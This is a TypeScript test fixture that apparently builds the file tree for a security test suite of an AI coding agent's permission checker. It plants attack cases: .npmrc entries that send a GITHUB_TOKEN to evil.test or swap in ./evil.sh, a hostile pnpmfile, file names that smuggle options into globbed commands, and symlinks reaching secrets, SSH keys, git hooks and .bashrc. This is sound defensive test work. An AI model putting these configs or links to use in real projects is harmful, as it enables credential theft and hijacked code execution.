// The file tree the security corpus runs in (shared by security-corpus.test.ts and the fuzzer).
import { execFileSync } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";

export function fixture(r: string): void {
  const p = join(r, "proj");
  for (const d of ["src", ".git/hooks", ".claude/worktrees", ".armature", "build", "secret"]) mkdirSync(join(p, d), { recursive: true });
  for (const d of ["proj-evil", "secrets", "other", "home/.ssh"]) mkdirSync(join(r, d), { recursive: true });
  const files: Record<string, string> = {
    "proj/README.md": "a\n",
    "proj/src/app.ts": "export const a = 1;\n",
    "proj/.env": "SECRET=1\n",
    "proj/.env.example": "SECRET=\n",
    "proj/secret/key": "k\n",
    "proj/x": "x\n",
    "proj-evil/x": "x\n",
    "secrets/key": "k\n",
    "other/notes.txt": "n\n",
    "home/.ssh/id_rsa": "key\n",
    "home/.bashrc": "\n",
  };
  for (const [f, text] of Object.entries(files)) writeFileSync(join(r, f), text);
  // Names a glob hands to a command as options and response files (issue 19).
  mkdirSync(join(p, "globs"));
  for (const n of ["-r", "--from-file=.env", "@x", "a.txt"]) writeFileSync(join(p, "globs", n), "X\n");
  writeFileSync(join(p, "globs", ".env"), "SECRET=1\n");
  // A repository nested in the project (its own config), and a compressed log (issue 19).
  mkdirSync(join(p, "nested", ".git"), { recursive: true });
  mkdirSync(join(p, "logs"));
  writeFileSync(join(p, "logs", "old.log.gz"), gzipSync("old\n"));
  // Package manager configuration a cloned project ships (issue 19: .npmrc, pnpm-workspace.yaml).
  const npmDirs: Record<string, [string, string]> = {
    "npm-evil": [".npmrc", "script-shell=./evil.sh\n"],
    "npm-reg": [".npmrc", "registry=http://evil.test/\n"],
    "npm-auth": [".npmrc", "//evil.test/:_authToken=${GITHUB_TOKEN}\n@x:registry=https://evil.test/\n"],
    "npm-ok": [".npmrc", "save-exact=true\n; git=./evil (a comment)\nregistry=https://registry.npmjs.org/\n"],
    "pnpm-evil": ["pnpm-workspace.yaml", "packages:\n  - 'a/*'\npnpmfile: ./evil.cjs\n"],
  };
  for (const [d, [f, text]] of Object.entries(npmDirs)) {
    mkdirSync(join(p, d));
    writeFileSync(join(p, d, f), text);
  }
  // A real, benign archive (extractions are judged by what the archive holds).
  execFileSync("tar", ["-cf", "a.tar", "README.md"], { cwd: p });
  symlinkSync(join(r, "secrets", "key"), join(p, "link-secret"));
  symlinkSync(join(p, ".env"), join(p, "link-env"));
  symlinkSync(join(r, "secrets"), join(p, "linkdir"));
  symlinkSync("..", join(p, "outer"));
  // Dangling links a cloned repository may hold: their targets do not exist (yet).
  const dangling: Record<string, string> = {
    "src/g2": "../.git/hooks/pre-commit",
    "src/o3": join(r, "x", "nonexist", "newfile"),
    "src/npmrc": "../.npmrc",
    "src/mcp": "../.mcp.json",
    "src/rc": "../.bashrc",
    "src/vs": "../.vscode/settings.json",
    "src/chain": "g2",
    "src/sec": "../secret/newkey",
    "src/loop1": "loop2",
    "src/loop2": "loop1",
    "src/ok": "new-ok.ts",
  };
  for (const [link, target] of Object.entries(dangling)) symlinkSync(target, join(p, link));
}

